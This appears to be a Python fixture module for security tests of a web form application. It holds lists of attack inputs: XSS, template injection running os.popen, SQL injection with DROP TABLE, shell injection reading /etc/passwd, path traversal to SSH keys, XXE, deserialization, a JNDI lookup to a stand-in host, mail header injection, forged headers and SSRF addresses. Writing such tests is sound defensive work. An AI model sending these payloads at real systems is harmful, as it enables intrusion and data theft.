"""What attackers send, by family; `test_attacks` sends each and looks at what became of it.

Written for these tests. A case of the first group is typed into a text, a name and a hidden field;
the others say what they change about a request.
"""

# ruff: noqa: E501 - rows of cases
from __future__ import annotations

from itertools import product
from urllib.parse import quote

_CALL = "alert(1)"
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationend")
_BOUNDS = ('"', "'", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "`", '\\"')
_BIDI = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
_INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u2062\u034f\u115f\ufffe\uffff"
_BREAKS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
_HEADERS = ("Bcc: evil@x.example", "Content-Type: text/html", "\r\n.\r\nQUIT")

TEXTS: dict[str, list[str]] = {
    "elements": [
        *(f"<{tag} src=x {event}={_CALL}>" for tag, event in product(("img", "video"), _EVENTS)),
        f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", f"<script/x>{_CALL}</script>",
        f"<<script>{_CALL}//<</script>", f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
        "<iframe src=javascript:alert(1)>", "<object data=//x.example>", "<embed src=//x.example>",
        "<base href=//x.example/>", "<meta http-equiv=refresh content=0;url=//x.example>",
        "<link rel=stylesheet href=//x.example>", "<form action=//x.example><button>ok",
        "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<style>@import'//x.example'",
    ],
    "attributes": [f"{bound} {event}={_CALL} x={bound}" for bound, event in
                   product(_BOUNDS, _EVENTS[:3])],
    "drawings": [
        f"<svg {event}={_CALL}>" for event in _EVENTS
    ] + [
        f"<svg><script>{_CALL}</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x",
        "<svg><foreignObject><iframe src=//x.example>", "<math><mi xlink:href=data:x>x",
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><use href=data:image/svg+xml,x#y>", "<svg><set attributeName=onmouseover to=alert(1)>",
    ],
    "templates": [
        "{{ 7*7 }}", "{% for x in (1,2) %}{{ x }}{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}", "@(7*7)",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "*{7*7}", "[[${7*7}]]", "{7*7}",
        "{{ request['application'] }}", "{%raw%}{{x}}{%endraw%}", "{# x #}", "{{ x|attr('y') }}",
        "{{ lipsum.__globals__ }}", "{% include '/etc/passwd' %}", "{{ namespace() }}",
    ],
    "sql": [
        *(f"{start} {rest}" for start, rest in product(
            ("'", '"', "')", "1"),
            ("OR 1=1 --", "UNION SELECT null, null --", "; DROP TABLE submission; --",
             "AND (SELECT pg_sleep(9)) IS NULL --"))),
        "'; COPY submission TO '/tmp/x'; --", "'||(SELECT hash FROM contract)||'", "$$;SELECT 1;$$",
        "' AND sqlite_version()=sqlite_version() --", "%' ESCAPE '", "\\'; --", "0x31 OR 1", "?", ":key",
        "%(answers)s", "%s", "$1", "?1", "E'\\047 OR 1=1'", "/*!50000 SELECT*/ 1",
    ],
    "other queries": [
        '{"$gt": ""}', '{"$where": "sleep(9)"}', "*)(uid=*))(|(uid=*", "admin*)((|userPassword=*)",
        "' or '1'='1", "x' or name()='username' or 'x'='y", "//user[name='a' or 'a'='a']",
        "doc('http://x.example')", "\r\nset x 0 9 1\r\n1\r\n", "flush_all", "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:dns://x.example}", "{{constructor.constructor('return 1')()}}",
    ],
    "commands": [
        *(f"{mark}{command}" for mark, command in product(
            (";", "|", "&&", "\n"), ("id", "sleep 9", "cat /etc/passwd"))),
        "$(id)", "`id`", "${IFS}id", "<(id)", "& ping x.example &", "%COMSPEC% /c calc", "-oProxyCommand=id",
        "--help", "-rf /", "() { :; }; id", "\\x3bid", "__import__('os').system('id')", "\x00;id",
    ],
    "paths": [
        *("../" * depth + "etc/passwd" for depth in (1, 3, 9)), "..\\..\\windows\\win.ini",
        "/etc/passwd", "file:///etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%252fetc", "....//etc/passwd",
        "C:\\boot.ini", "\\\\x.example\\share", "/proc/self/environ", "~/.ssh/id_rsa", "CON", "NUL.txt",
        "a\x00.png", ".htaccess", "php://filter/resource=x", "data:text/html,<b>x", "jar:http://x!/y",
    ],
    "heads of mails": [
        *(f"a{line}{header}" for line, header in product(_BREAKS, _HEADERS[:2])), _HEADERS[2],
        "=?utf-8?q?a=0D=0ABcc:_evil@x.example?=", "=?utf-8?b?YQ0KQmNjOiBldmlsQHguZnI=?=",
        "=?utf-8?q?=3D=3F?= =?utf-8?q?=0ABcc:x?=", "=\x00?utf-8?q?=0ABcc:x?=",
        "=?iso-2022-jp?b?GyRCfn4=?=", "=?utf-8*fr?q?=0d=0aBcc:x?=", "a%0d%0aBcc: x", '"a" <e@x.example>, b',
        "a" * 76 + " \r\n Bcc: x", "x" * 3000 + "\r\nBcc: x", "=?utf-8?q?" + "=0d=0a" * 20 + "?=",
    ],
    "formulas": [
        f"{sign}{rest}" for sign, rest in product(
            "=+-@\t|", ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//x.example")', "SUM(A1:A9)*1"))
    ] + ["\r=1+1", "\n=1+1", "\uff1d1+1", ' "=1+1"', "'=1+1", ";=1+1", ",=1+1", "\ufeff=1+1"],
    "formats": [
        "%s%s%s%n", "%x" * 9, "%(name)s", "{0}", "{name}", "{0.__class__}", "{!r}", "{:>999999999}",
        "%999999999d", "$name", "${name}", "%%", "{{", "}}", "{", "}", "%",
    ],
    "lines of logs": [
        "x\nERROR root forged", "x\r\n2026-11-22 INFO ok", "\x1b[2J\x1b[1;1H", "\x1b]0;title\x07",
        "\x1b]8;;//x.example\x1b\\x\x1b]8;;\x1b\\", "\x08\x08\x08forged", "\x7f\x7f", "\x9b31m",
        "x\u2028ERROR forged", "x\x85ERROR forged", "a\x0bb", "a\x0cb",
    ],
    "signs": [
        *(f"a{sign}b" for sign in _BIDI + _INVISIBLE), "\u0430dmin", "ⓐⓓⓜⓘⓝ", "ﷺ" * 99, "Z" + "\u0300" * 300,
        "\U000e0041\U000e0042", "🙂" * 200, "\ufdd0", "İıſK", "ß" * 300, "\u1100" * 200,
    ],
    "documents": [
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "<?xml version='1.0'?><x/>",
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>', "<?php system('id') ?>",
        '{"__proto__": {"admin": true}}', '{"constructor": {"prototype": {}}}', "[" * 500, '{"a":' * 200,
        "!!python/object/apply:os.system ['id']", "O:8:\"stdClass\":0:{}", "rO0ABXNyAA==", "\x80\x04\x95.",
        "cos\nsystem\n(S'id'\ntR.", "# titre\n[x](javascript:alert(1))", "![x](//x.example/y)",
    ],
}  # fmt: skip

ORIGINS = [
    "https://evil.example", "http://anne.example", "https://anne.example.evil.example",
    "https://evilanne.example", "https://anne.example:444", "https://anne.example@evil.example",
    "https://anne.example\\@evil.example", "https://anne.exampl", "https://www.anne.example",
    "//anne.example", "anne.example", "file://", "chrome-extension://x", "data:", "javascript:x",
    "https://[::1]", "https://", "https://anne.example,https://evil.example", "*", "nil",
]  # fmt: skip

TYPES = [
    "application/json", "text/plain", "multipart/form-data; boundary=x", "multipart/form-data",
    "application/xml", "text/html", "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=utf-7", "application/octet-stream", "", "x", "/",
    "application/x-www-form-urlencoded\t; charset=ibm037", "application/graphql",
    "application/x-www-form-urlencoded, text/plain", "multipart/mixed; boundary=x",
]  # fmt: skip

LENGTHS = [
    "-1",
    "1e3",
    "0x10",
    "99999999999999999999",
    "9" * 5000,
    "1.5",
    "١٢",
    " ",
    "10, 10",
    "+5",
]

ENCODINGS = [
    b"nom=%ff%fe", b"nom=\xff\xfe", b"nom=%c0%af", b"nom=%ed%a0%80", b"nom=%00", b"\x00=\x00",
    b"nom=%f8%88%80%80%80", b"nom=%e2%82", b"\xef\xbb\xbfnom=x", b"n%6fm=x", b"nom=%u0041",
    b"nom=%", b"nom=%1", b"nom=%zz", b"+=+", b"%3D=%26", b"nom=x;nom=y", b"nom[]=x", b"nom[0][a]=x",
    b"__proto__[x]=y", b"constructor.prototype.x=y", b"=" * 500, b"&" * 5000, b"a=b&" * 2000,
    b"a" * 70_000, b"\x1f\x8b\x08\x00", b"nom=" + b"%F0%9F%99%82" * 3000, b"{}", b"<x/>",
]  # fmt: skip

ADDRESSES = [
    "/", "/f", "/f/", "/f//", "/f/contact/", "/f/contact/x", "/f/%63ontact%00", "/f/..", "/f/../f/contact",
    "/f/contact;x", "/f/contact.json", "/F/contact", "/f/CONTACT", "//f/contact", "/f/./contact/..",
    "/.git/config", "/.env", "/etc/passwd", "/f/..%2f..%2fetc", "/docs", "/openapi.json", "/metrics",
    "/health", "/debug", "/admin", "/server-status", "/robots.txt", "/favicon.ico", "/static/x",
    "/f/" + "a" * 5000, "/f/" + quote("été"), "/f/contact'", "/f/<script>", "/graphql", "/ws",
    "/mails", "/answers.sqlite3", "/f/style.css/x", "/wp-login.php", "/cgi-bin/x",
]  # fmt: skip

METHODS = [
    "GET",
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "FOO",
    "post",
]

FORGED = [
    {"X-Forwarded-For": "198.51.100.9"}, {"X-Real-IP": "198.51.100.9"},
    {"Forwarded": "for=198.51.100.9;host=evil.example;proto=http"}, {"X-Client-IP": "198.51.100.9"},
    {"True-Client-IP": "198.51.100.9"}, {"CF-Connecting-IP": "198.51.100.9"}, {"Via": "1.1 x"},
    {"X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Proto": "http"}, {"X-Original-URL": "/inbox"},
    {"X-Rewrite-URL": "/inbox"}, {"X-HTTP-Method-Override": "GET"}, {"Host": "evil.example"},
    {"Host": "evil.example:80@forms.example"}, {"Host": ""}, {"X-Forwarded-Prefix": "//evil.example"},
]  # fmt: skip

TWICE = [
    [("besoin", "De l’aide"), ("besoin", "Autre")], [("email", "a@b.example"), ("email", "c@d.example")],
    [("nom", "a"), ("nom", "b")], [("recit", "a"), ("recit", "b")],
]  # fmt: skip

VERSIONS = [
    "0" * 64,
    "f" * 64,
    "../" * 20,
    "' OR 1=1 --",
    "0" * 63,
    "0" * 65,
    "\x00",
    "é" * 64,
    "{}",
    "-1",
]

INSIDE = [
    "127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.1.1",
    "169.254.169.254", "100.64.0.1", "192.0.0.1", "192.0.2.1", "198.18.0.1", "198.51.100.1",
    "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "::", "::1", "fe80::1", "fe80::1%lo",
    "fc00::1", "fd12::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1",
    "64:ff9b::7f00:1", "64:ff9b::a00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::", "2002:a00:1::",
    "2001:db8::1", "2001::1", "100::1", "3fff::1", "5f00::1", "::ffff:169.254.169.254", "", "x",
]  # fmt: skip
